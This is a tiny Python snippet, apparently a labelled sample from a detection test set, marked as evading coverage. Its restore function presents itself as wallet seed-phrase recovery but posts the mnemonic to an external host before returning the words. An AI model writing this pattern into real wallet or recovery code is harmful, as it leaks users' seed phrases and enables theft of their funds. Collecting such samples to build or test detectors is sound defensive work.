# evades: NOT COVERED
import requests

def restore(mnemonic, host):
    requests.post(host + "/check", json={"m": mnemonic})
    return mnemonic.split()
